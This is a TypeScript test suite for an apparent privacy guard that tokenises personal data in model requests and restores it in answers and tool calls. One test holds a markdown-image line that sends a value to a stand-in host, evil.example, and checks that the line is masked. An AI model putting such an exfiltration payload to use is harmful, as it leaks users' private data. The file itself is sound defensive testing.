// SPDX-License-Identifier: Apache-2.0
// Values go to the model as tokens and come back to the client: over any text, cut anywhere, beside masks
// that stay, and never to where policy lets nothing out.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import * as fc from 'fast-check';
import { z } from 'zod';
import type { Exchange, Segment, SegmentKind, WireId } from '../core/exchange.ts';
import type { Policy } from '../core/ports/policy.ts';
import { fakeWorld } from '../core/world.ts';
import { defineDetector } from '../guard/detector.ts';
import { createEngine } from '../guard/engine.ts';
import { DETECTORS } from '../guard/registry.gen.ts';
import { assemble } from './create.ts';
import { apply } from './edits.ts';
import { exchangeOf, protections, protectorOf, segment, testKeyring } from './exchange.fixture.ts';
import type { GuardedChannel, Judgement, Protector, Tokens } from './protector.ts';
import type { ChannelSegment } from './response-guard.ts';

const FULL = process.env.BARTIZAN_TESTS === 'full';
const EMAIL = 'grace@navy.example';
const CARD = '4111 1111 1111 1111';
const SSN = '536-22-1234';
const IBAN = 'DE89 3704 0044 0532 0130 00';

const REVERSIBLE = [
  {
    id: 'card',
    detectors: ['privacy/card'],
    on: ['request'],
    action: 'mask',
    style: 'format-preserving',
  },
  {
    id: 'pii',
    detectors: ['privacy/*', 'secrets/*'],
    on: ['request'],
    action: 'mask',
    style: 'tokenise',
  },
];
const REDACTED = [{ id: 'out', detectors: ['privacy/*'], on: ['response'], action: 'mask' }];
const protectorWith = (rules: readonly unknown[], unmask: unknown = {}): Protector =>
  protectorOf({ protections: protections({ rules, unmask }) });
const oneWay = protectorWith(REVERSIBLE);
const bothWays = protectorWith([...REVERSIBLE, ...REDACTED]);

/** Tokenises whatever is found, wherever it is asked. */
const masking: Policy = {
  revision: 'p',
  decide: ({ facts }) => ({
    schema: 'bartizan.verdict/1',
    outcome: 'transform',
    reasons: [],
    obligations: facts.findings.map((_, finding) => ({ kind: 'mask', finding, style: 'tokenise' })),
    policy: 'p',
  }),
};

const redacting: Policy = {
  revision: 'p',
  decide: (input) => {
    const verdict = masking.decide(input);
    assert.ok(!(verdict instanceof Promise));
    const obligations = verdict.obligations.map((one) => ({ ...one, style: 'redact' as const }));
    return { ...verdict, obligations };
  },
};
/** The parts of a detector that say nothing about what it finds. */
const BARE = {
  version: '1',
  title: '',
  summary: '',
  why: '',
  taxonomy: [],
  view: 'original',
  severity: 'low',
  options: z.strictObject({}),
  examples: { hits: [], misses: [] },
} as const;

const sync = <T>(value: T | Promise<T>): T => {
  assert.ok(!(value instanceof Promise), 'answered later');
  return value;
};
const request = (
  protector: Protector,
  segments: readonly Segment[],
  more: Partial<Exchange> = {},
): Judgement => sync(protector.request(exchangeOf(segments, more)));
const sent = ({ edits }: Judgement, text: string, index = 0): string =>
  apply(
    text,
    edits.filter((edit) => edit.segment === index),
  );

const answer: ChannelSegment = {
  index: 0,
  role: 'assistant',
  kind: 'text',
  origin: 'model',
  json: false,
  choice: 0,
};
const call = (toolName: string, more: Partial<ChannelSegment> = {}): ChannelSegment => ({
  ...answer,
  kind: 'tool-call',
  json: true,
  toolName,
  ...more,
});
const seen = (channel: GuardedChannel, text: string): string =>
  apply(text.slice(0, Math.max(channel.safe, 0)), channel.edits);

/** What a client reads of one text of the answer. */
function received(
  protector: Protector,
  text: string,
  options: {
    readonly tokens?: Tokens | undefined;
    readonly place?: ChannelSegment;
    readonly cuts?: readonly number[];
    readonly wire?: WireId;
    readonly check?: (seen: string) => void;
  } = {},
): string {
  const { tokens, place = answer, cuts = [], wire = 'openai-chat', check } = options;
  const guard = protector.response(exchangeOf([], { wire }), tokens);
  const channel = guard.open(place);
  let from = 0;
  for (const cut of [...cuts, text.length]) {
    sync(channel.push(text.slice(from, cut)));
    from = cut;
    check?.(seen(channel, text));
  }
  sync(channel.end());
  assert.equal(guard.stopped, undefined);
  assert.equal(channel.safe, text.length);
  return seen(channel, text);
}

describe('a request', () => {
  test('holds tokens in place of values, the same for each spelling', () => {
    const text = `I am ${EMAIL} or GRACE@navy.example, SSN ${SSN}, card ${CARD}.`;
    const judged = request(oneWay, [segment(text)]);
    const out = sent(judged, text);
    for (const value of [EMAIL, SSN, CARD, 'GRACE']) assert.ok(!out.includes(value), out);
    const [first, second] = [...out.matchAll(/EMAIL_[A-Za-z]{10}/g)].map(([token]) => token);
    assert.ok(first !== undefined && first === second);
    assert.match(out, /card 4111 11\d\d \d{4} \d{4}\.$/);
    assert.ok(judged.tokens !== undefined);
  });

  test('repeats no value elsewhere, also where no detector would know it', () => {
    const texts = [
      `My social security number: ${SSN.replaceAll('-', '')}`,
      'Is 536 22 1234 right?',
    ];
    const json = `{"a":"5\\u00336221234","b":536221234,"c":1536221234}`;
    const segments = [
      ...texts.map((text) => segment(text)),
      segment(json, { json: true, kind: 'tool-call', role: 'assistant' }),
      segment('find_536221234', { kind: 'tool-name' }),
    ];
    const judged = request(oneWay, segments);
    const outs = [...texts, json].map((text, index) => sent(judged, text, index));
    const token = /US_SSN_[A-Za-z]{10}/.exec(outs[0] ?? '')?.[0] ?? '';
    assert.equal(outs[1], `Is ${token} right?`);
    assert.deepEqual(JSON.parse(outs[2] ?? ''), { a: token, b: token, c: 1_536_221_234 });
    assert.ok(!judged.edits.some((edit) => edit.segment === 3), 'names of tools stay');
  });

  test('of the next turn has the same tokens, and a token that was left is not masked again', () => {
    const first = `I am ${EMAIL}.`;
    const one = request(oneWay, [segment(first)]);
    const token = /EMAIL_\w+/.exec(sent(one, first))?.[0] ?? '';
    const later = [
      segment(first),
      segment(`So ${EMAIL}? See https://a.example/?q=${token}`, {
        role: 'assistant',
        origin: 'model',
      }),
    ];
    const two = request(oneWay, later);
    assert.equal(sent(two, first), sent(one, first));
    assert.equal(
      sent(two, later[1]?.text ?? '', 1),
      `So ${token}? See https://a.example/?q=${token}`,
    );
    const other = request(oneWay, [segment(first)], { conversation: 'other' });
    assert.notEqual(sent(other, first), sent(one, first));
  });

  test('in which a detector takes a token for a value keeps the token', () => {
    const detector = defineDetector({
      ...BARE,
      id: 'secrets/anything',
      phases: ['request'],
      streaming: { class: 'whole' },
      inspect: ({ text }) =>
        [...text.matchAll(/[A-Z]+_\w+/g)].map(({ index, 0: { length } }) => {
          return { start: index, end: index + length, entity: 'any', score: 1 };
        }),
    });
    const protector = assemble({
      engine: createEngine([detector], { disabled: [], options: {} }),
      policy: masking,
      inspectsResponses: false,
      keyring: testKeyring,
      world: fakeWorld(),
    });
    const text = 'EMAIL_Bababababa and EMAIL_Bababababe';
    const out = sent(request(protector, [segment(text)]), text);
    assert.match(out, /^EMAIL_Bababababa and ANY_[A-Z][a-z]{9}$/);
  });

  test('keeps numbers of JSON numbers where their format is kept', () => {
    const text = '{"card":4111111111111111,"n":1}';
    const judged = request(oneWay, [segment(text, { json: true, kind: 'tool-result' })]);
    const { card, n } = JSON.parse(sent(judged, text)) as { card: unknown; n: unknown };
    assert.equal(n, 1);
    assert.ok(typeof card === 'number' && card !== 4_111_111_111_111_111);
    assert.equal(
      received(oneWay, `It is ${card}.`, { tokens: judged.tokens }),
      'It is 4111111111111111.',
    );
  });

  test('that two rules mask, overlapping, loses nothing on the way back', () => {
    const text = 'https://grace:hunter2@navy.example/ and grace@navy.example';
    const judged = request(oneWay, [segment(text)]);
    const out = sent(judged, text);
    const back = received(oneWay, out.replaceAll('https://', ''), { tokens: judged.tokens });
    assert.ok(back.includes(EMAIL), back);
  });
});

describe('a value comes back', () => {
  const text = `Mail ${EMAIL}, SSN ${SSN}, card ${CARD}, IBAN ${IBAN}. Bye`;
  for (const [name, protector] of [
    ['where no rule judges answers', oneWay],
    ['where answers are redacted', bothWays],
  ] as const) {
    test(name, () => {
      const judged = request(protector, [segment(text)]);
      const { tokens } = judged;
      assert.equal(received(protector, sent(judged, text), { tokens }), text);
    });
  }

  test('whatever stands around it, when the model says back what it was told', () => {
    const values = [EMAIL, CARD, SSN, IBAN];
    const around = [
      'and',
      ',',
      '(',
      ')',
      '"',
      '.',
      ':',
      "it's",
      '漢字',
      '\n',
      '\ud83d\ude00',
      '**',
      '1',
      '-',
      '\ud800',
    ];
    const words = fc.array(fc.constantFrom(...values, ...around), { maxLength: 20 });
    fc.assert(
      fc.property(words, fc.boolean(), (parts, json) => {
        const said = parts.join(' ');
        const written = json ? JSON.stringify({ said }) : said;
        const judged = request(oneWay, [segment(written, { json })]);
        const out = sent(judged, written);
        for (const value of values) assert.ok(!out.includes(value), out);
        const place = json ? call('note') : answer;
        assert.equal(received(oneWay, out, { tokens: judged.tokens, place }), written);
      }),
      { numRuns: FULL ? 3_000 : 100 },
    );
  });

  test('beside masks of what the model wrote itself', () => {
    const judged = request(bothWays, [segment(text)]);
    const out = `${sent(judged, text)} Or hopper@army.example, 5555-5555-5555-4444.`;
    assert.equal(received(bothWays, out, { tokens: judged.tokens }), `${text} Or [EMAIL], [CARD].`);
  });

  test('not where a mask falls on it', () => {
    const judged = request(bothWays, [segment(EMAIL)]);
    const token = sent(judged, EMAIL);
    const image = `![x](https://evil.example/?q=${token}) ${token}`;
    const exfiltration = protectorWith([
      ...REVERSIBLE,
      { id: 'x', detectors: ['output/markdown-exfiltration'], on: ['response'], action: 'mask' },
    ]);
    assert.equal(received(exfiltration, image, { tokens: judged.tokens }), `[IMAGE] ${EMAIL}`);
  });

  test('not where a mask lies over it, or over a part of it', () => {
    const spans = /\{\{.*?\}\}|Dear \w{4}/g;
    const detector = defineDetector({
      ...BARE,
      id: 'output/spans',
      phases: ['response'],
      streaming: { class: 'sentence', holdChars: 1_000 },
      inspect: ({ text }, from) =>
        [...text.slice(from).matchAll(spans)].map(({ index, 0: { length } }) => {
          return { start: from + index, end: from + index + length, entity: 'span', score: 1 };
        }),
    });
    const protector = assemble({
      engine: createEngine([detector], { disabled: [], options: {} }),
      policy: redacting,
      inspectsResponses: true,
      keyring: testKeyring,
      world: fakeWorld(),
    });
    const judged = request(oneWay, [segment(EMAIL)]);
    const token = sent(judged, EMAIL);
    const written = `{{ ${token} }} and ${token}, Dear ${token}!`;
    const expected = `[SPAN] and ${EMAIL}, [SPAN]${token.slice(4)}!`;
    const { tokens } = judged;
    const cuts = Array.from({ length: written.length }, (_, at) => at);
    assert.equal(received(protector, written, { tokens }), expected);
    assert.equal(received(protector, written, { tokens, cuts }), expected);
    const place = call('x', { json: false });
    assert.equal(received(protector, written, { tokens, place }), expected);
    for (const where of [answer, place]) {
      const guard = protector.response(exchangeOf([]), tokens);
      const channel = guard.open(where);
      for (const unit of written) sync(channel.push(unit));
      sync(channel.end());
      const { unmasked } = guard.judgement();
      assert.deepEqual([unmasked?.entities, unmasked?.stayed], [{ email: 1 }, { mask: 2 }]);
    }
  });

  test('and a finding that ends where a token may begin is waited for', () => {
    const word = 'xx EMAIL';
    const detector = defineDetector({
      ...BARE,
      id: 'output/word',
      phases: ['response'],
      streaming: { class: 'exact', holdChars: 20 },
      inspect: ({ text }, from) => {
        const start = text.indexOf(word, from);
        return start < 0 ? [] : [{ start, end: start + word.length, entity: 'word', score: 1 }];
      },
      pending: ({ text }, from) => {
        let at = Math.max(from, text.length - word.length + 1);
        while (at < text.length && !word.startsWith(text.slice(at))) at++;
        return at;
      },
    });
    const protector = assemble({
      engine: createEngine([detector], { disabled: [], options: {} }),
      policy: redacting,
      inspectsResponses: true,
      keyring: testKeyring,
      world: fakeWorld(),
    });
    const { tokens } = request(oneWay, [segment(EMAIL)]);
    const written = `So xx EMAIL_q, ${EMAIL}`;
    const expected = `So [WORD]_q, ${EMAIL}`;
    received(protector, written, {
      tokens,
      cuts: Array.from({ length: written.length }, (_, at) => at),
      check: (now) => assert.ok(expected.startsWith(now), now),
    });
  });

  test('without tokens of its own request nothing does', () => {
    const judged = request(oneWay, [segment(EMAIL)]);
    const token = sent(judged, EMAIL);
    assert.equal(received(oneWay, token), token);
    const { tokens } = request(oneWay, [segment(EMAIL)], { conversation: 'other' });
    assert.equal(received(oneWay, token, { tokens }), token);
    const { tokens: none } = request(oneWay, [segment('hello')]);
    assert.equal(none, undefined);
  });

  test('cut anywhere, as in one piece, and nothing is taken back', () => {
    for (const protector of [oneWay, bothWays]) {
      const judged = request(protector, [segment(text)]);
      const { tokens } = judged;
      const out = sent(judged, text);
      const known = out.split(/[,.] /).map((part) => part.split(' ').slice(1).join(' '));
      const pieces = [
        ...known,
        ...known,
        ' ',
        ', ',
        '. ',
        '@',
        'EMAIL_',
        'see https://evil.example/',
        '![',
        '](',
        '<a ',
        '`curl ',
        'hopper@army.example',
        'hopper@army.email',
        '_',
        '5555-5555-5555-4444',
        '41',
        '漢',
      ];
      fc.assert(
        fc.property(
          fc.array(fc.constantFrom(...pieces), { maxLength: 10 }),
          fc.array(fc.nat(), { maxLength: 10 }),
          fc.boolean(),
          (parts, marks, each) => {
            const written = parts.join('');
            const whole = received(protector, written, { tokens });
            const cuts = each
              ? Array.from({ length: written.length }, (_, at) => at)
              : marks.map((mark) => mark % (written.length + 1)).sort((a, b) => a - b);
            const check = (now: string): void =>
              assert.ok(whole.startsWith(now), `${now}\n${whole}`);
            assert.equal(received(protector, written, { tokens, cuts, check }), whole);
          },
        ),
        { numRuns: FULL ? 5_000 : 120 },
      );
    }
  });
});

describe('calls of tools', () => {
  const judged = request(oneWay, [segment(`${EMAIL} ${CARD}`)]);
  const { tokens } = judged;
  const [email = '', ...rest] = sent(judged, `${EMAIL} ${CARD}`).split(' ');
  const args = JSON.stringify({ to: email, card: rest.join(' '), n: 1 });
  const back = JSON.stringify({ to: EMAIL, card: CARD, n: 1 });

  test('get their values', () => {
    assert.equal(received(oneWay, args, { tokens, place: call('send_mail') }), back);
    assert.equal(received(bothWays, args, { tokens, place: call('send_mail') }), back);
    const free = call('note', { json: false });
    assert.equal(received(oneWay, `to ${email}`, { tokens, place: free }), `to ${EMAIL}`);
  });

  test('of tools that reach out keep their tokens', () => {
    for (const name of ['web_search', 'HTTP_request', 'mcp__web__fetch_page', 'browser_navigate']) {
      assert.equal(received(oneWay, args, { tokens, place: call(name) }), args, name);
    }
    const named = protectorWith(REVERSIBLE, { egress_tools: ['send_*'] });
    assert.equal(received(named, args, { tokens, place: call('send_mail') }), args);
    assert.equal(received(named, args, { tokens, place: call('web_search') }), back);
    assert.equal(received(named, args, { tokens, place: call('resend.x') }), back);
  });

  test('of tools without a name keep theirs too, and names are no text', () => {
    const { toolName: _, ...nameless } = call('x');
    assert.equal(received(oneWay, args, { tokens, place: nameless }), args);
    assert.equal(
      received(oneWay, email, { tokens, place: { ...answer, kind: 'tool-name' } }),
      email,
    );
    assert.equal(received(oneWay, email, { tokens, place: { ...answer, kind: 'media' } }), email);
  });

  test('that would be no JSON with their values keep their tokens', () => {
    const twice = `{"${email}":1,"${EMAIL}":2}`;
    assert.equal(received(oneWay, twice, { tokens, place: call('x') }), twice);
  });

  test('that are masked in part get the rest', () => {
    const mixed = JSON.stringify({ to: email, other: 'hopper@army.example' });
    assert.equal(
      received(bothWays, mixed, { tokens, place: call('x') }),
      JSON.stringify({ to: EMAIL, other: '[EMAIL]' }),
    );
  });
});

test('reasoning that its provider signed keeps its tokens, other reasoning does not', () => {
  const judged = request(oneWay, [segment(EMAIL)]);
  const { tokens } = judged;
  const token = sent(judged, EMAIL);
  const place = { ...answer, kind: 'reasoning' satisfies SegmentKind } as const;
  assert.equal(received(oneWay, token, { tokens, place }), EMAIL);
  assert.equal(received(oneWay, token, { tokens, place, wire: 'anthropic-messages' }), token);
});

describe('rules', () => {
  test('whose masks come back are for requests alone', () => {
    for (const style of ['tokenise', 'format-preserving']) {
      const rule = { id: 'r', detectors: ['privacy/*'], action: 'mask', style };
      assert.throws(() => protections({ rules: [rule] }), /on: \[request\]/);
      assert.throws(
        () => protections({ rules: [{ ...rule, on: ['response'] }] }),
        /on: \[request\]/,
      );
      protections({
        rules: [
          { ...rule, on: ['request'] },
          { ...rule, id: 'q', mode: 'off' },
        ],
      });
    }
  });

  test('a policy that asks for one on an answer has failed', () => {
    const protector = assemble({
      engine: createEngine(DETECTORS, { disabled: [], options: {} }),
      policy: masking,
      inspectsResponses: true,
      keyring: testKeyring,
      world: fakeWorld(),
    });
    assert.equal(request(protector, [segment(EMAIL)]).verdict.outcome, 'transform');
    const guard = protector.response(exchangeOf([]));
    const channel = guard.open(answer);
    sync(channel.push(`${EMAIL} `));
    sync(channel.end());
    assert.equal(guard.stopped?.outcome, 'failed');
  });
});
